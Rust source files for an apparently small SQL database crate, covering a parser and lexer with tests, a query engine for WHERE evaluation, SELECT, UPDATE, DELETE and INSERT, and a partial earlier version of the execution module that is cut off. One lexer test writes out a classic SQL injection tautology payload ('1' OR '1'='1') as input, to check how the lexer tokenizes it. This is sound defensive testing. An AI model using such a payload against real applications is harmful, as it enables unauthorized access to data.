        parse_sql("CREATE TABLE t (id INT PRIMARY KEY, name VARCHAR(40), w FLOAT)").unwrap();
        parse_sql("INSERT INTO t (id, name) VALUES (1, 'a'), (2, 'b')").unwrap();
        parse_sql("UPDATE t SET name = 'c', w = w + 1 WHERE id = 2").unwrap();
        parse_sql("DELETE FROM t WHERE name LIKE 'a%'").unwrap();
        parse_sql("DROP TABLE t").unwrap();
    }

    #[test]
    fn parses_order_by_and_limit() {
        let stmt = parse_sql("SELECT a, b FROM t ORDER BY a DESC LIMIT 5").unwrap();
        match stmt {
            SqlStmt::Select {
                order_by, limit, ..
            } => {
                assert_eq!(order_by, Some(("a".into(), Order::Desc)));
                assert_eq!(limit, Some(5));
            }
            other => panic!("wrong statement {other:?}"),
        }
    }

    #[test]
    fn parses_prepared_params() {
        let stmt = parse_sql("SELECT * FROM clients WHERE id = $1").unwrap();
        assert_eq!(stmt.param_count(), 1);
        let stmt = parse_sql("INSERT INTO t VALUES (?, ?, ?)").unwrap();
        assert_eq!(stmt.param_count(), 3);
    }

    #[test]
    fn rejects_trailing_garbage() {
        assert!(parse_sql("SELECT * FROM t WHERE a = 1 extra junk").is_err());
    }

    #[test]
    fn negative_numbers_parse() {
        parse_sql("SELECT * FROM t WHERE a > -5").unwrap();
        parse_sql("INSERT INTO t VALUES (-1, -2.5)").unwrap();
    }

    #[test]
    fn is_null_parses() {
        let stmt = parse_sql("SELECT * FROM t WHERE a IS NOT NULL AND b IS NULL").unwrap();
        assert!(matches!(stmt, SqlStmt::Select { .. }));
    }
}
