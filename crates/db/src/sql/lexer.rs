//! SQL tokenizer.
//!
//! Single-quoted strings with `''` escaping, numbers, identifiers/keywords,
//! comparison operators, punctuation, and `$n`/`?` placeholders. Keywords are
//! case-insensitive and surfaced uppercased.

use crate::error::DbError;

/// A SQL token.
#[derive(Debug, Clone, PartialEq)]
pub enum SqlTok {
    /// Keyword or identifier, uppercased keyword check done by the parser.
    Word(String),
    /// Integer literal.
    Int(i64),
    /// Float literal.
    Float(f64),
    /// String literal (quotes removed, `''` unescaped).
    Str(String),
    /// `$n` or `?` placeholder, holding the 1-based index (for `?` the lexer
    /// assigns sequential indices).
    Param(usize),
    /// Operator / punctuation: one of `( ) , * = != <> < <= > >= + - / .`.
    Punct(&'static str),
}

/// Tokenizes SQL text.
pub fn lex_sql(src: &str) -> Result<Vec<SqlTok>, DbError> {
    let bytes = src.as_bytes();
    let mut i = 0;
    let mut toks = Vec::new();
    let mut next_positional = 1usize;
    while i < bytes.len() {
        let c = bytes[i] as char;
        match c {
            c if c.is_whitespace() => i += 1,
            '-' if bytes.get(i + 1) == Some(&b'-') => {
                while i < bytes.len() && bytes[i] != b'\n' {
                    i += 1;
                }
            }
            '\'' => {
                i += 1;
                let mut s = String::new();
                loop {
                    match bytes.get(i) {
                        None => return Err(DbError::Syntax("unterminated string".into())),
                        Some(b'\'') if bytes.get(i + 1) == Some(&b'\'') => {
                            s.push('\'');
                            i += 2;
                        }
                        Some(b'\'') => {
                            i += 1;
                            break;
                        }
                        Some(&b) => {
                            s.push(b as char);
                            i += 1;
                        }
                    }
                }
                toks.push(SqlTok::Str(s));
            }
            '?' => {
                toks.push(SqlTok::Param(next_positional));
                next_positional += 1;
                i += 1;
            }
            '$' => {
                i += 1;
                let start = i;
                while i < bytes.len() && (bytes[i] as char).is_ascii_digit() {
                    i += 1;
                }
                if start == i {
                    return Err(DbError::Syntax("expected digits after `$`".into()));
                }
                let idx: usize = src[start..i]
                    .parse()
                    .map_err(|_| DbError::Syntax("bad parameter index".into()))?;
                if idx == 0 {
                    return Err(DbError::Syntax("parameter indices are 1-based".into()));
                }
                toks.push(SqlTok::Param(idx));
            }
            c if c.is_ascii_digit() => {
                let start = i;
                while i < bytes.len() && (bytes[i] as char).is_ascii_digit() {
                    i += 1;
                }
                if i < bytes.len()
                    && bytes[i] == b'.'
                    && bytes
                        .get(i + 1)
                        .is_some_and(|b| (*b as char).is_ascii_digit())
                {
                    i += 1;
                    while i < bytes.len() && (bytes[i] as char).is_ascii_digit() {
                        i += 1;
                    }
                    let v: f64 = src[start..i]
                        .parse()
                        .map_err(|_| DbError::Syntax("bad float".into()))?;
                    toks.push(SqlTok::Float(v));
                } else {
                    let v: i64 = src[start..i]
                        .parse()
                        .map_err(|_| DbError::Syntax("bad integer".into()))?;
                    toks.push(SqlTok::Int(v));
                }
            }
            c if c.is_ascii_alphabetic() || c == '_' => {
                let start = i;
                while i < bytes.len() && {
                    let c = bytes[i] as char;
                    c.is_ascii_alphanumeric() || c == '_'
                } {
                    i += 1;
                }
                toks.push(SqlTok::Word(src[start..i].to_string()));
            }
            _ => {
                let two = if i + 1 < bytes.len() {
                    &src[i..i + 2]
                } else {
                    ""
                };
                const TWOS: &[&str] = &["!=", "<>", "<=", ">="];
                if let Some(p) = TWOS.iter().find(|p| **p == two) {
                    // Normalize `<>` to `!=`.
                    toks.push(SqlTok::Punct(if *p == "<>" { "!=" } else { p }));
                    i += 2;
                    continue;
                }
                const ONES: &[&str] = &["(", ")", ",", "*", "=", "<", ">", "+", "-", "/", ";", "."];
                let one = &src[i..i + 1];
                if let Some(p) = ONES.iter().find(|p| **p == one) {
                    toks.push(SqlTok::Punct(p));
                    i += 1;
                } else {
                    return Err(DbError::Syntax(format!("unexpected character `{c}`")));
                }
            }
        }
    }
    Ok(toks)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lexes_simple_select() {
        let toks = lex_sql("SELECT * FROM t WHERE id = 10").unwrap();
        assert_eq!(toks.len(), 8);
        assert_eq!(toks[0], SqlTok::Word("SELECT".into()));
        assert_eq!(toks[7], SqlTok::Int(10));
    }

    #[test]
    fn string_with_doubled_quote() {
        let toks = lex_sql("SELECT * FROM t WHERE name = 'O''Brien'").unwrap();
        assert!(toks.contains(&SqlTok::Str("O'Brien".into())));
    }

    #[test]
    fn tautology_payload_lexes_into_three_strings() {
        // `id='1' OR '1'='1'` — the injected payload must produce a
        // comparison of two equal string literals.
        let toks = lex_sql("id='1' OR '1'='1'").unwrap();
        let strs: Vec<_> = toks
            .iter()
            .filter_map(|t| match t {
                SqlTok::Str(s) => Some(s.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(strs, vec!["1", "1", "1"]);
    }

    #[test]
    fn positional_params_are_numbered() {
        let toks = lex_sql("INSERT INTO t VALUES (?, ?, $5)").unwrap();
        let params: Vec<_> = toks
            .iter()
            .filter_map(|t| match t {
                SqlTok::Param(i) => Some(*i),
                _ => None,
            })
            .collect();
        assert_eq!(params, vec![1, 2, 5]);
    }

    #[test]
    fn neq_variants_normalize() {
        let toks = lex_sql("a <> b != c").unwrap();
        let puncts: Vec<_> = toks
            .iter()
            .filter_map(|t| match t {
                SqlTok::Punct(p) => Some(*p),
                _ => None,
            })
            .collect();
        assert_eq!(puncts, vec!["!=", "!="]);
    }

    #[test]
    fn unterminated_string_errors() {
        assert!(lex_sql("SELECT 'oops").is_err());
    }
}
