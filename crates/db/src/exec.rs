//! Statement execution: expression evaluation and the query engine.

use crate::error::DbError;
use crate::schema::Schema;
use crate::sql::{Aggregate, ArithOp, CmpOp, Order, Projection, SqlExpr, SqlScalar, SqlStmt};
use crate::table::Table;
use crate::value::Value;
use std::cmp::Ordering;
use std::sync::{Arc, OnceLock};

/// A result set rendered as text, the way libpq/libmysqlclient hand rows
/// to applications: one shared `Arc<str>` per cell, one shared slice per
/// row, the whole table behind one refcount.
pub type TextRows = Arc<Vec<Arc<[Arc<str>]>>>;

/// The rows returned by a SELECT.
#[derive(Debug, Clone, Default)]
pub struct ResultSet {
    /// Output column names.
    pub columns: Vec<String>,
    /// Output rows.
    pub rows: Vec<Vec<Value>>,
    /// Lazily rendered text view of `rows` (see [`ResultSet::text_rows`]).
    /// Not part of the value: equality ignores it, and mutating `rows`
    /// after the first render would make it stale — result sets are
    /// write-once by construction.
    text: OnceLock<TextRows>,
}

impl PartialEq for ResultSet {
    fn eq(&self, other: &ResultSet) -> bool {
        self.columns == other.columns && self.rows == other.rows
    }
}

impl ResultSet {
    /// Builds a result set.
    pub fn new(columns: Vec<String>, rows: Vec<Vec<Value>>) -> ResultSet {
        ResultSet {
            columns,
            rows,
            text: OnceLock::new(),
        }
    }

    /// Number of tuples (libpq `PQntuples`).
    pub fn ntuples(&self) -> usize {
        self.rows.len()
    }

    /// Number of fields (libpq `PQnfields`).
    pub fn nfields(&self) -> usize {
        self.columns.len()
    }

    /// Field value rendered as text (libpq `PQgetvalue`); `None` when out of
    /// range.
    pub fn get_value(&self, row: usize, col: usize) -> Option<String> {
        self.rows
            .get(row)
            .and_then(|r| r.get(col))
            .map(Value::render)
    }

    /// The whole result rendered as text, the way libpq/libmysqlclient hand
    /// rows to applications. Rendered once per result set and shared by
    /// refcount from then on — with the statement-level result cache, a
    /// repeated query costs two pointer bumps, not a re-render.
    pub fn text_rows(&self) -> &TextRows {
        self.text.get_or_init(|| {
            Arc::new(
                self.rows
                    .iter()
                    .map(|r| r.iter().map(Value::render_shared).collect())
                    .collect(),
            )
        })
    }
}

/// Outcome of executing one statement.
#[derive(Debug, Clone, PartialEq)]
pub enum QueryResult {
    /// SELECT output. Shared so the statement-level result cache can hand
    /// the same materialized rows to every repeat of a query.
    Rows(Arc<ResultSet>),
    /// Row count affected by INSERT/UPDATE/DELETE.
    Affected(usize),
    /// DDL success.
    Ok,
}

impl QueryResult {
    /// The result set, if this was a SELECT.
    pub fn rows(&self) -> Option<&ResultSet> {
        match self {
            QueryResult::Rows(rs) => Some(rs),
            _ => None,
        }
    }
}

fn resolve_scalar(s: &SqlScalar, params: &[Value]) -> Result<Value, DbError> {
    match s {
        SqlScalar::Literal(v) => Ok(v.clone()),
        SqlScalar::Param(i) => params.get(i - 1).cloned().ok_or(DbError::MissingParam(*i)),
    }
}

/// A WHERE/SET expression with column names resolved to row indices and
/// parameters substituted — bound once per statement so the per-row
/// evaluation loop does no name lookups. Resolution *failures* are bound as
/// [`Bound::Fail`] nodes that error only when evaluated, preserving
/// [`eval_expr`]'s lazy error semantics under short-circuiting `AND`/`OR`.
enum Bound {
    Value(Value),
    Col(usize),
    Fail(DbError),
    /// Fast path for the dominant predicate shape `col <op> constant`
    /// (`id = $1`, `ward != 'none'`, `balance > 0`): compares the cell in
    /// place — no recursion, no value clones per row.
    ColCmp(CmpOp, usize, Value),
    Cmp(CmpOp, Box<Bound>, Box<Bound>),
    And(Box<Bound>, Box<Bound>),
    Or(Box<Bound>, Box<Bound>),
    Not(Box<Bound>),
    Like(Box<Bound>, Box<Bound>),
    IsNull(Box<Bound>, bool),
    Arith(ArithOp, Box<Bound>, Box<Bound>),
}

fn bind_expr(expr: &SqlExpr, schema: &Schema, params: &[Value]) -> Bound {
    let sub = |e: &SqlExpr| Box::new(bind_expr(e, schema, params));
    match expr {
        SqlExpr::Scalar(s) => match resolve_scalar(s, params) {
            Ok(v) => Bound::Value(v),
            Err(e) => Bound::Fail(e),
        },
        SqlExpr::Column(name) => match schema.index_of(name) {
            Ok(idx) => Bound::Col(idx),
            Err(e) => Bound::Fail(e),
        },
        SqlExpr::Cmp(op, a, b) => {
            match (bind_expr(a, schema, params), bind_expr(b, schema, params)) {
                (Bound::Col(idx), Bound::Value(v)) => Bound::ColCmp(*op, idx, v),
                (a, b) => Bound::Cmp(*op, Box::new(a), Box::new(b)),
            }
        }
        SqlExpr::And(a, b) => Bound::And(sub(a), sub(b)),
        SqlExpr::Or(a, b) => Bound::Or(sub(a), sub(b)),
        SqlExpr::Not(a) => Bound::Not(sub(a)),
        SqlExpr::Like(a, p) => Bound::Like(sub(a), sub(p)),
        SqlExpr::IsNull(a, negated) => Bound::IsNull(sub(a), *negated),
        SqlExpr::Arith(op, a, b) => Bound::Arith(*op, sub(a), sub(b)),
    }
}

/// SQL three-valued comparison result: `NULL` when either side was `NULL`
/// (no ordering), else `1`/`0`.
fn cmp_value(op: CmpOp, ord: Option<Ordering>) -> Value {
    match ord {
        None => Value::Null,
        Some(ord) => Value::Int(i64::from(match op {
            CmpOp::Eq => ord == Ordering::Equal,
            CmpOp::Ne => ord != Ordering::Equal,
            CmpOp::Lt => ord == Ordering::Less,
            CmpOp::Le => ord != Ordering::Greater,
            CmpOp::Gt => ord == Ordering::Greater,
            CmpOp::Ge => ord != Ordering::Less,
        })),
    }
}

/// Evaluates a bound expression against one row. Mirrors [`eval_expr`]
/// exactly (that function remains the specification; `bound_matches_eval`
/// in the tests pins them together), minus the per-row name resolution.
fn eval_bound(b: &Bound, row: &[Value]) -> Result<Value, DbError> {
    Ok(match b {
        Bound::Value(v) => v.clone(),
        Bound::Col(idx) => row[*idx].clone(),
        Bound::Fail(e) => return Err(e.clone()),
        Bound::ColCmp(op, idx, v) => cmp_value(*op, row[*idx].sql_cmp(v)),
        Bound::Cmp(op, a, b) => {
            let va = eval_bound(a, row)?;
            let vb = eval_bound(b, row)?;
            cmp_value(*op, va.sql_cmp(&vb))
        }
        Bound::And(a, b) => {
            let va = truthy(&eval_bound(a, row)?);
            if va == Some(false) {
                return Ok(Value::Int(0));
            }
            let vb = truthy(&eval_bound(b, row)?);
            match (va, vb) {
                (Some(true), Some(true)) => Value::Int(1),
                (_, Some(false)) => Value::Int(0),
                _ => Value::Null,
            }
        }
        Bound::Or(a, b) => {
            let va = truthy(&eval_bound(a, row)?);
            if va == Some(true) {
                return Ok(Value::Int(1));
            }
            let vb = truthy(&eval_bound(b, row)?);
            match (va, vb) {
                (_, Some(true)) => Value::Int(1),
                (Some(false), Some(false)) => Value::Int(0),
                _ => Value::Null,
            }
        }
        Bound::Not(a) => match truthy(&eval_bound(a, row)?) {
            Some(v) => Value::Int(i64::from(!v)),
            None => Value::Null,
        },
        Bound::Like(a, pat) => {
            let va = eval_bound(a, row)?;
            let vp = eval_bound(pat, row)?;
            match (va, vp) {
                (Value::Null, _) | (_, Value::Null) => Value::Null,
                (a, p) => Value::Int(i64::from(like_match(&a.render(), &p.render()))),
            }
        }
        Bound::IsNull(a, negated) => {
            Value::Int(i64::from(eval_bound(a, row)?.is_null() != *negated))
        }
        Bound::Arith(op, a, b) => {
            let va = eval_bound(a, row)?;
            let vb = eval_bound(b, row)?;
            match (va.as_number(), vb.as_number()) {
                (Some(_), Some(y)) if *op == ArithOp::Div && y == 0.0 => Value::Null,
                (Some(x), Some(y)) => {
                    let out = match op {
                        ArithOp::Add => x + y,
                        ArithOp::Sub => x - y,
                        ArithOp::Mul => x * y,
                        ArithOp::Div => x / y,
                    };
                    if let (Value::Int(_), Value::Int(_)) = (&va, &vb) {
                        if out.fract() == 0.0 && out.is_finite() {
                            return Ok(Value::Int(out as i64));
                        }
                    }
                    Value::Float(out)
                }
                _ => Value::Null,
            }
        }
    })
}

/// Evaluates a WHERE/SET expression against one row.
pub fn eval_expr(
    expr: &SqlExpr,
    schema: &Schema,
    row: &[Value],
    params: &[Value],
) -> Result<Value, DbError> {
    match expr {
        SqlExpr::Scalar(s) => resolve_scalar(s, params),
        SqlExpr::Column(name) => {
            let idx = schema.index_of(name)?;
            Ok(row[idx].clone())
        }
        SqlExpr::Cmp(op, a, b) => {
            let va = eval_expr(a, schema, row, params)?;
            let vb = eval_expr(b, schema, row, params)?;
            let out = match va.sql_cmp(&vb) {
                None => Value::Null,
                Some(ord) => Value::Int(i64::from(match op {
                    CmpOp::Eq => ord == Ordering::Equal,
                    CmpOp::Ne => ord != Ordering::Equal,
                    CmpOp::Lt => ord == Ordering::Less,
                    CmpOp::Le => ord != Ordering::Greater,
                    CmpOp::Gt => ord == Ordering::Greater,
                    CmpOp::Ge => ord != Ordering::Less,
                })),
            };
            Ok(out)
        }
        SqlExpr::And(a, b) => {
            let va = truthy(&eval_expr(a, schema, row, params)?);
            // SQL three-valued logic: false AND x = false.
            if va == Some(false) {
                return Ok(Value::Int(0));
            }
            let vb = truthy(&eval_expr(b, schema, row, params)?);
            Ok(match (va, vb) {
                (Some(true), Some(true)) => Value::Int(1),
                (_, Some(false)) => Value::Int(0),
                _ => Value::Null,
            })
        }
        SqlExpr::Or(a, b) => {
            let va = truthy(&eval_expr(a, schema, row, params)?);
            if va == Some(true) {
                return Ok(Value::Int(1));
            }
            let vb = truthy(&eval_expr(b, schema, row, params)?);
            Ok(match (va, vb) {
                (_, Some(true)) => Value::Int(1),
                (Some(false), Some(false)) => Value::Int(0),
                _ => Value::Null,
            })
        }
        SqlExpr::Not(a) => {
            let va = truthy(&eval_expr(a, schema, row, params)?);
            Ok(match va {
                Some(v) => Value::Int(i64::from(!v)),
                None => Value::Null,
            })
        }
        SqlExpr::Like(a, pat) => {
            let va = eval_expr(a, schema, row, params)?;
            let vp = eval_expr(pat, schema, row, params)?;
            match (va, vp) {
                (Value::Null, _) | (_, Value::Null) => Ok(Value::Null),
                (a, p) => Ok(Value::Int(i64::from(like_match(&a.render(), &p.render())))),
            }
        }
        SqlExpr::IsNull(a, negated) => {
            let va = eval_expr(a, schema, row, params)?;
            Ok(Value::Int(i64::from(va.is_null() != *negated)))
        }
        SqlExpr::Arith(op, a, b) => {
            let va = eval_expr(a, schema, row, params)?;
            let vb = eval_expr(b, schema, row, params)?;
            match (va.as_number(), vb.as_number()) {
                // SQL convention: division by zero yields NULL.
                (Some(_), Some(y)) if *op == ArithOp::Div && y == 0.0 => Ok(Value::Null),
                (Some(x), Some(y)) => {
                    let out = match op {
                        ArithOp::Add => x + y,
                        ArithOp::Sub => x - y,
                        ArithOp::Mul => x * y,
                        ArithOp::Div => x / y,
                    };
                    // Keep integer typing when both operands were integers
                    // and the result is exact.
                    if let (Value::Int(_), Value::Int(_)) = (&va, &vb) {
                        if out.fract() == 0.0 && out.is_finite() {
                            return Ok(Value::Int(out as i64));
                        }
                    }
                    Ok(Value::Float(out))
                }
                _ => Ok(Value::Null),
            }
        }
    }
}

fn truthy(v: &Value) -> Option<bool> {
    match v {
        Value::Null => None,
        other => other.as_number().map(|n| n != 0.0).or(Some(false)),
    }
}

/// SQL LIKE matching with `%` (any run) and `_` (any single char).
pub fn like_match(text: &str, pattern: &str) -> bool {
    fn rec(t: &[u8], p: &[u8]) -> bool {
        match p.first() {
            None => t.is_empty(),
            Some(b'%') => {
                // Skip consecutive %.
                let p = &p[1..];
                (0..=t.len()).any(|i| rec(&t[i..], p))
            }
            Some(b'_') => !t.is_empty() && rec(&t[1..], &p[1..]),
            Some(&c) => t.first() == Some(&c) && rec(&t[1..], &p[1..]),
        }
    }
    rec(text.as_bytes(), pattern.as_bytes())
}

/// Executes a SELECT against one table.
pub fn exec_select(
    table: &Table,
    projection: &Projection,
    where_clause: Option<&SqlExpr>,
    order_by: Option<&(String, Order)>,
    limit: Option<usize>,
    params: &[Value],
) -> Result<ResultSet, DbError> {
    let schema = table.schema();
    let bound = where_clause.map(|w| bind_expr(w, schema, params));
    let mut matched: Vec<&Vec<Value>> = Vec::new();
    for row in table.rows() {
        let keep = match &bound {
            None => true,
            Some(w) => truthy(&eval_bound(w, row)?) == Some(true),
        };
        if keep {
            matched.push(row);
        }
    }

    if let Some((col, dir)) = order_by {
        let idx = schema.index_of(col)?;
        matched.sort_by(|a, b| {
            let ord = a[idx].sql_cmp(&b[idx]).unwrap_or(Ordering::Equal);
            match dir {
                Order::Asc => ord,
                Order::Desc => ord.reverse(),
            }
        });
    }

    if let Some(n) = limit {
        matched.truncate(n);
    }

    match projection {
        Projection::Star => Ok(ResultSet::new(
            schema.columns().iter().map(|c| c.name.clone()).collect(),
            matched.into_iter().cloned().collect(),
        )),
        Projection::Columns(cols) => {
            let idxs: Vec<usize> = cols
                .iter()
                .map(|c| schema.index_of(c))
                .collect::<Result<_, _>>()?;
            Ok(ResultSet::new(
                cols.clone(),
                matched
                    .into_iter()
                    .map(|r| idxs.iter().map(|&i| r[i].clone()).collect())
                    .collect(),
            ))
        }
        Projection::Aggregates(aggs) => {
            let mut columns = Vec::new();
            let mut row = Vec::new();
            for agg in aggs {
                let (name, value) = eval_aggregate(agg, schema, &matched)?;
                columns.push(name);
                row.push(value);
            }
            Ok(ResultSet::new(columns, vec![row]))
        }
    }
}

fn eval_aggregate(
    agg: &Aggregate,
    schema: &Schema,
    rows: &[&Vec<Value>],
) -> Result<(String, Value), DbError> {
    let col_values = |col: &str| -> Result<Vec<Value>, DbError> {
        let idx = schema.index_of(col)?;
        Ok(rows
            .iter()
            .map(|r| r[idx].clone())
            .filter(|v| !v.is_null())
            .collect())
    };
    match agg {
        Aggregate::CountStar => Ok(("count".into(), Value::Int(rows.len() as i64))),
        Aggregate::Count(col) => Ok(("count".into(), Value::Int(col_values(col)?.len() as i64))),
        Aggregate::Sum(col) => {
            let vals = col_values(col)?;
            if vals.is_empty() {
                return Ok(("sum".into(), Value::Null));
            }
            let sum: f64 = vals.iter().filter_map(Value::as_number).sum();
            Ok(("sum".into(), number_value(sum, &vals)))
        }
        Aggregate::Avg(col) => {
            let vals = col_values(col)?;
            if vals.is_empty() {
                return Ok(("avg".into(), Value::Null));
            }
            let sum: f64 = vals.iter().filter_map(Value::as_number).sum();
            Ok(("avg".into(), Value::Float(sum / vals.len() as f64)))
        }
        Aggregate::Min(col) => Ok(("min".into(), extremum(col_values(col)?, Ordering::Less))),
        Aggregate::Max(col) => Ok(("max".into(), extremum(col_values(col)?, Ordering::Greater))),
    }
}

fn number_value(x: f64, source: &[Value]) -> Value {
    let all_int = source.iter().all(|v| matches!(v, Value::Int(_)));
    if all_int && x.fract() == 0.0 && x.is_finite() {
        Value::Int(x as i64)
    } else {
        Value::Float(x)
    }
}

fn extremum(vals: Vec<Value>, want: Ordering) -> Value {
    let mut best: Option<Value> = None;
    for v in vals {
        best = match best {
            None => Some(v),
            Some(b) => {
                if v.sql_cmp(&b) == Some(want) {
                    Some(v)
                } else {
                    Some(b)
                }
            }
        };
    }
    best.unwrap_or(Value::Null)
}

/// Executes UPDATE; returns affected row count.
pub fn exec_update(
    table: &mut Table,
    sets: &[(String, SqlExpr)],
    where_clause: Option<&SqlExpr>,
    params: &[Value],
) -> Result<usize, DbError> {
    let schema = table.schema().clone();
    let set_idxs: Vec<(usize, Bound)> = sets
        .iter()
        .map(|(c, e)| Ok((schema.index_of(c)?, bind_expr(e, &schema, params))))
        .collect::<Result<_, DbError>>()?;
    let bound = where_clause.map(|w| bind_expr(w, &schema, params));
    let mut affected = 0;
    for row in table.rows_mut() {
        let keep = match &bound {
            None => true,
            Some(w) => truthy(&eval_bound(w, row)?) == Some(true),
        };
        if keep {
            // Evaluate all SETs against the pre-update row, then apply.
            let mut new_vals = Vec::with_capacity(set_idxs.len());
            for (idx, e) in &set_idxs {
                let v = eval_bound(e, row)?;
                let col = &schema.columns()[*idx];
                if !col.ty.accepts(&v) {
                    return Err(DbError::TypeMismatch {
                        column: col.name.clone(),
                        value: v.render(),
                    });
                }
                new_vals.push((*idx, col.ty.coerce(v)));
            }
            for (idx, v) in new_vals {
                row[idx] = v;
            }
            affected += 1;
        }
    }
    Ok(affected)
}

/// Executes DELETE; returns affected row count.
pub fn exec_delete(
    table: &mut Table,
    where_clause: Option<&SqlExpr>,
    params: &[Value],
) -> Result<usize, DbError> {
    let schema = table.schema().clone();
    let bound = where_clause.map(|w| bind_expr(w, &schema, params));
    let mut error = None;
    let before = table.row_count();
    table.rows_mut().retain(|row| {
        if error.is_some() {
            return true;
        }
        match &bound {
            None => false,
            Some(w) => match eval_bound(w, row) {
                Ok(v) => truthy(&v) != Some(true),
                Err(e) => {
                    error = Some(e);
                    true
                }
            },
        }
    });
    match error {
        Some(e) => Err(e),
        None => Ok(before - table.row_count()),
    }
}

/// Binds INSERT rows and appends them; returns affected count.
pub fn exec_insert(
    table: &mut Table,
    columns: Option<&[String]>,
    rows: &[Vec<SqlScalar>],
    params: &[Value],
) -> Result<usize, DbError> {
    let schema = table.schema().clone();
    let mut count = 0;
    for scalars in rows {
        let values: Vec<Value> = scalars
            .iter()
            .map(|s| resolve_scalar(s, params))
            .collect::<Result<_, _>>()?;
        let full_row = match columns {
            None => values,
            Some(cols) => {
                if cols.len() != values.len() {
                    return Err(DbError::ArityMismatch {
                        expected: cols.len(),
                        found: values.len(),
                    });
                }
                let mut row = vec![Value::Null; schema.len()];
                for (c, v) in cols.iter().zip(values) {
                    row[schema.index_of(c)?] = v;
                }
                row
            }
        };
        table.insert(full_row)?;
        count += 1;
    }
    Ok(count)
}

/// Dispatches a parsed statement against a table-lookup callback. Used by
/// [`Database::execute`](crate::Database::execute).
pub fn returns_rows(stmt: &SqlStmt) -> bool {
    stmt.returns_rows()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn arithmetic_edge_cases() {
        use crate::schema::{schema, ColumnType};
        use crate::table::Table;
        let s = schema(&[("a", ColumnType::Int), ("b", ColumnType::Int)]);
        let mut t = Table::new(s);
        t.insert(vec![Value::Int(10), Value::Int(0)]).unwrap();
        // Division by zero yields NULL (SQL convention, never a panic), and
        // NULL = 0 evaluates to NULL.
        let stmt = crate::sql::parse_sql("SELECT * FROM t WHERE a / b = 0").unwrap();
        if let crate::sql::SqlStmt::Select { where_clause, .. } = stmt {
            let w = where_clause.unwrap();
            let v = eval_expr(&w, t.schema(), &t.rows()[0], &[]).unwrap();
            assert_eq!(v, Value::Null);
        } else {
            panic!("expected select");
        }
    }

    #[test]
    fn select_limit_zero_returns_nothing() {
        use crate::schema::{schema, ColumnType};
        use crate::table::Table;
        let s = schema(&[("a", ColumnType::Int)]);
        let mut t = Table::new(s);
        t.insert(vec![Value::Int(1)]).unwrap();
        let rs = exec_select(&t, &Projection::Star, None, None, Some(0), &[]).unwrap();
        assert_eq!(rs.ntuples(), 0);
    }

    #[test]
    fn order_by_text_is_lexicographic() {
        use crate::schema::{schema, ColumnType};
        use crate::table::Table;
        let s = schema(&[("n", ColumnType::Text)]);
        let mut t = Table::new(s);
        for v in ["pear", "apple", "plum"] {
            t.insert(vec![Value::Text(v.into())]).unwrap();
        }
        let rs = exec_select(
            &t,
            &Projection::Star,
            None,
            Some(&("n".to_string(), Order::Asc)),
            None,
            &[],
        )
        .unwrap();
        let names: Vec<String> = rs.rows.iter().map(|r| r[0].render()).collect();
        assert_eq!(names, vec!["apple", "pear", "plum"]);
    }

    #[test]
    fn bound_matches_eval_expr() {
        // eval_expr is the specification; bind_expr/eval_bound is the fast
        // path the row loops use. Pin them together over a grid of
        // expressions, including lazy-error cases (unknown column behind a
        // short-circuiting OR must only fail when evaluated).
        use crate::schema::{schema, ColumnType};
        use crate::table::Table;
        let s = schema(&[
            ("a", ColumnType::Int),
            ("b", ColumnType::Text),
            ("c", ColumnType::Float),
        ]);
        let mut t = Table::new(s);
        t.insert(vec![
            Value::Int(1),
            Value::Text("x".into()),
            Value::Float(1.5),
        ])
        .unwrap();
        t.insert(vec![Value::Int(0), Value::Null, Value::Float(-2.0)])
            .unwrap();
        let params = [Value::Text("x".into())];
        for src in [
            "a = 1",
            "a != 1 AND b = 'x'",
            "b = $1 OR a < 0",
            "NOT (a >= 1)",
            "b LIKE 'x%'",
            "b IS NULL",
            "b IS NOT NULL AND c > -3",
            "a + c * 2 > 0",
            "a / 0 = 0",
            "1 = 1 OR nope = 2",
            "1 = 0 OR nope = 2",
            "nope = 2 AND 1 = 1",
            "a = $9",
        ] {
            let stmt = crate::sql::parse_sql(&format!("SELECT * FROM t WHERE {src}")).unwrap();
            let crate::sql::SqlStmt::Select { where_clause, .. } = stmt else {
                panic!("expected select");
            };
            let w = where_clause.unwrap();
            let bound = bind_expr(&w, t.schema(), &params);
            for row in t.rows() {
                assert_eq!(
                    eval_bound(&bound, row),
                    eval_expr(&w, t.schema(), row, &params),
                    "bound/eval divergence on {src:?}"
                );
            }
        }
    }

    #[test]
    fn like_match_wildcards() {
        assert!(like_match("hello", "h%o"));
        assert!(like_match("hello", "_ello"));
        assert!(!like_match("hello", "h_o"));
        assert!(like_match("", "%"));
        assert!(like_match("abc", "%"));
        assert!(!like_match("abc", "a_"));
        assert!(like_match("a%b", "a%b"));
    }
}
