//! Statement execution: expression evaluation and the query engine.

use crate::error::DbError;
use crate::schema::Schema;
use crate::sql::{Aggregate, ArithOp, CmpOp, Order, Projection, SqlExpr, SqlScalar, SqlStmt};
use crate::table::Table;
use crate::value::Value;
use std::cmp::Ordering;

/// The rows returned by a SELECT.
#[derive(Debug, Clone, PartialEq)]
pub struct ResultSet {
    /// Output column names.
    pub columns: Vec<String>,
    /// Output rows.
    pub rows: Vec<Vec<Value>>,
}

impl ResultSet {
    /// Number of tuples (libpq `PQntuples`).
    pub fn ntuples(&self) -> usize {
        self.rows.len()
    }

    /// Number of fields (libpq `PQnfields`).
    pub fn nfields(&self) -> usize {
        self.columns.len()
    }

    /// Field value rendered as text (libpq `PQgetvalue`); `None` when out of
    /// range.
    pub fn get_value(&self, row: usize, col: usize) -> Option<String> {
        self.rows
            .get(row)
            .and_then(|r| r.get(col))
            .map(Value::render)
    }
}

/// Outcome of executing one statement.
#[derive(Debug, Clone, PartialEq)]
pub enum QueryResult {
    /// SELECT output.
    Rows(ResultSet),
    /// Row count affected by INSERT/UPDATE/DELETE.
    Affected(usize),
    /// DDL success.
    Ok,
}

impl QueryResult {
    /// The result set, if this was a SELECT.
    pub fn rows(&self) -> Option<&ResultSet> {
        match self {
            QueryResult::Rows(rs) => Some(rs),
            _ => None,
        }
    }
}

fn resolve_scalar(s: &SqlScalar, params: &[Value]) -> Result<Value, DbError> {
    match s {
        SqlScalar::Literal(v) => Ok(v.clone()),
        SqlScalar::Param(i) => params.get(i - 1).cloned().ok_or(DbError::MissingParam(*i)),
    }
}

/// Evaluates a WHERE/SET expression against one row.
pub fn eval_expr(
    expr: &SqlExpr,
    schema: &Schema,
    row: &[Value],
    params: &[Value],
